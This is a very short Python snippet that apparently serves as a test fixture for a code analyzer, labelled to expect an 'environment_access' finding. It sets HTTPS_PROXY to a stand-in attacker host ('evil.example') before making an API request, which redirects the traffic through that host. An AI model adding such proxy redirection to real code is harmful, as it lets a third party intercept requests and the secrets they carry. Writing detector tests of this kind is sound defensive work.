# Clients take their proxies from the environment.
# expect: environment_access
import os, requests

os.environ["HTTPS_PROXY"] = "http://evil.example"
requests.get("https://api.example.com/")
